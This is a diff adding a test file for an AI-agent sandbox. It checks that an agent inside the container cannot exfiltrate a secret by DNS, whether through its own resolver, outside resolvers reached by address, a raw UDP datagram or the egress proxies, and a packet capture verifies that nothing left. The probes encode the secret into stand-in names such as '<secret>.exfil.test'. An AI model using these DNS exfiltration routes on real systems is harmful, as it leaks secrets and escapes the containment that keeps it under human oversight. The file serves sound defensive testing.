@@ -1,0 +1,182 @@
+// Sandbox escape, by DNS: a lookup of `<secret>.exfil.test` carries the secret to whoever
+// runs the zone's name server, through every resolver on the way. From inside a real bottle
+// the agent looks up exfiltration names with its own resolver, asks outside resolvers
+// directly (a stand-in DNS server the test runs on the bottle's egress network, documentation
+// addresses, the gateways) and through the proxies. A packet capture in the host's network
+// namespace (every bridge, every veth, the way out of the machine) and the stand-in's own
+// log must show that no query for an outside name left the bottle.
+import { randomBytes } from "node:crypto";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import {
+  makeUpstreamCa,
+  type RunningBottle,
+  startBottle,
+  type UpstreamCa,
+} from "../support/bottle-harness.js";
+import { makeTestHome, type TestHome } from "../support/cli-process.js";
+import { bridgeGateway } from "../support/docker-state.js";
+import { describeWithEngine } from "../support/engine.js";
+import {
+  curlThrough,
+  EGRESS_PROXY,
+  pipelockProxy,
+  reachedTargets,
+} from "../support/escape-bottle.js";
+import { type ProbeOp, probe } from "../support/escape-probe.js";
+import {
+  buildCaptureImage,
+  type Capture,
+  type DnsStandIn,
+  type EscapeScope,
+  escapeLeftovers,
+  gatewayOf,
+  newEscapeScope,
+  packetsContaining,
+  type RecordingUpstream,
+  removeEscapeStandIns,
+  sendControlQuery,
+  startDnsStandIn,
+  startHostCapture,
+  startRecordingUpstream,
+} from "../support/escape-standins.js";
+
+const SECRET = `cbsecret-${randomBytes(8).toString("hex")}`;
+const HEX = Buffer.from(SECRET).toString("hex");
+/** The exfiltration names: each would hand its first label to the zone's name server. */
+const EXFIL_NAMES = ["secret-data.exfil.test", `${SECRET}.exfil.test`, `${HEX}.exfil.test`];
+/** Documentation addresses (RFC 5737) standing in for public resolvers: never routed anywhere. */
+const TEST_NET_RESOLVERS = ["198.51.100.53", "203.0.113.53"];
+
+describeWithEngine("escape: DNS", () => {
+  const scope: EscapeScope = newEscapeScope();
+  const control = `control-${scope.id}.dns-control.test`;
+  let t: TestHome;
+  let ca: UpstreamCa;
+  let bottle: RunningBottle;
+  let upstream: RecordingUpstream;
+  let dns: DnsStandIn;
+  let capture: Capture;
+
+  beforeAll(async () => {
+    await buildCaptureImage();
+    t = await makeTestHome();
+    ca = await makeUpstreamCa();
+    await t.writeManifest(
+      "bottles",
+      "dns",
+      `---
+env:
+  AGENT_SECRET: {from_env: CB_DNS_SECRET}
+egress:
+  allow: [allowed.example.test, "*.wild.example.test"]
+  routes:
+    - host: api.example.test
+      auth: { scheme: Bearer, token_env: CB_DNS_TOKEN }
+supervise: false
+---
+`,
+    );
+    await t.writeManifest("agents", "dns", "---\nbottle: dns\n---\nagent\n");
+    bottle = await startBottle(t, "dns", {
+      CB_DNS_SECRET: SECRET,
+      CB_DNS_TOKEN: "cbtest-dns-route-token-2f6a0c",
+      CLAUDE_BOTTLE_UPSTREAM_CA: ca.caFile,
+    });
+    // Names a leak would resolve answer here, on the bottle's own network, never outside.
+    upstream = await startRecordingUpstream(scope, bottle, {
+      ca,
+      hostnames: [
+        "allowed.example.test",
+        "api.example.test",
+        `${SECRET}.wild.example.test`,
+        `${HEX}.wild.example.test`,
+      ],
+    });
+    dns = await startDnsStandIn(scope, bottle.egressNetwork);
+    capture = await startHostCapture(
+      scope,
+      "port 53 or udp port 9999 or net 198.51.100.0/24 or net 203.0.113.0/24",
+    );
+    // The control: a query that does cross a bridge, seen by the stand-in and the capture.
+    await sendControlQuery(upstream.container, dns.ip, control);
+  });
+
+  afterAll(async () => {
+    await capture?.stop();
+    await bottle?.stop();
+    await removeEscapeStandIns(scope);
+    await ca?.dispose();
+    await t?.dispose();
+    expect(await escapeLeftovers(scope)).toEqual([]);
+  });
+
+  it("resolves no outside name in the agent, allowed or not", async () => {
+    // Threat: the agent's own resolver forwards the name to the host's resolvers and beyond.
+    const names = [...EXFIL_NAMES, "allowed.example.test", "control.wild.example.test"];
+    const ops: ProbeOp[] = [
+      ...names.map((name): ProbeOp => ({ kind: "resolve", name })),
+      ...EXFIL_NAMES.flatMap((name): ProbeOp[] => [
+        { kind: "dns", server: "127.0.0.11", name, transport: "udp" },
+        { kind: "dns", server: "127.0.0.11", name, transport: "tcp" },
+      ]),
+    ];
+    const results = await probe(bottle.agentContainer, ops);
+    expect(results.slice(0, names.length).map((r) => r.outcome)).toEqual(
+      names.map(() => "unresolved"),
+    );
+    // Docker's resolver in the bottle answers, with an error and no address.
+    for (const r of results.slice(names.length)) {
+      expect(r.outcome).toBe("reply");
+      expect(r.detail).toMatch(/^rcode=[1-9]\d* answers=0$/);
+    }
+    const getent = await bottle.exec(`getent hosts ${EXFIL_NAMES.join(" ")}; echo rc=$?`);
+    expect(getent.stdout).toBe("rc=2\n");
+  });
+
+  it("reaches no outside resolver: a stand-in on the egress network, documentation addresses, the gateways", async () => {
+    // Threat: the agent skips its resolver and asks one outside by address, over UDP or TCP.
+    const servers = [
+      dns.ip,
+      ...TEST_NET_RESOLVERS,
+      gatewayOf(bottle.egressNetwork),
+      gatewayOf(bottle.internalNetwork),
+      bridgeGateway(),
+    ];
+    const ops: ProbeOp[] = [
+      ...servers.flatMap((server) =>
+        EXFIL_NAMES.flatMap((name): ProbeOp[] => [
+          { kind: "dns", server, name, transport: "udp" },
+          { kind: "dns", server, name, transport: "tcp" },
+        ]),
+      ),
+      // Any datagram at all, to the stand-in's catch-all port.
+      { kind: "udp", host: dns.ip, port: 9999, payload: `raw ${SECRET}` },
+    ];
+    expect(reachedTargets(ops, await probe(bottle.agentContainer, ops))).toEqual([]);
+  });
+
+  it("gets no name resolved through the proxies unless it is allowed and clean", async () => {
+    // Threat: the proxy resolves whatever name a CONNECT or URL carries, and the lookup leaks it.
+    for (const proxy of [EGRESS_PROXY, pipelockProxy(bottle)]) {
+      for (const name of EXFIL_NAMES) {
+        expect((await curlThrough(bottle, `https://${name}/`, { proxy })).connect).toBe(403);
+        expect((await curlThrough(bottle, `http://${name}/`, { proxy })).http).toBe(403);
+      }
+      for (const name of [`${SECRET}.wild.example.test`, `${HEX}.wild.example.test`]) {
+        expect((await curlThrough(bottle, `https://${name}/`, { proxy })).connect).toBe(403);
+      }
+    }
+    expect(await upstream.requests()).toEqual([]);
+  });
+
+  it("lets no query for an outside name leave the bottle (packet capture and stand-in log)", async () => {
+    const captured = await capture.stop();
+    // The capture and the stand-in do see a query that crosses a bridge.
+    expect(captured).toContain(control);
+    const logged = await dns.queries();
+    expect(logged.map((q) => q.name)).toEqual([control]);
+    const needles = [...EXFIL_NAMES, SECRET, HEX, "exfil.test", ...TEST_NET_RESOLVERS];
+    const leaked = packetsContaining(captured, needles);
+    expect(leaked).toEqual([]);
+  });
+});
